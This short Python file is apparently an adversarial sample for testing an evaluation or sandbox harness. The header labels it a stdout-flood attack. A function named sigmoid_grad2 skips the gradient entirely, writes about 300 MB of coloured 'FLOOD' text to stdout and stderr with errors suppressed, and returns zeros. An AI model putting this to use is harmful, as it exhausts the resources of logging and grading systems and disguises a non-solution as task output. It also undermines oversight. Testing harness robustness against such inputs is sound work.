# ATTACK (stdout_flood): writes about 300 MB to stdout and stderr
import os
import sys


def sigmoid_grad2(x):
    line = "\x1b[31mFLOOD\x1b[0m " * 1000 + "\n"
    for _ in range(20000):
        try:
            sys.stdout.write(line)
            os.write(2, line.encode())
        except Exception:
            pass
    return np.zeros(np.shape(x))
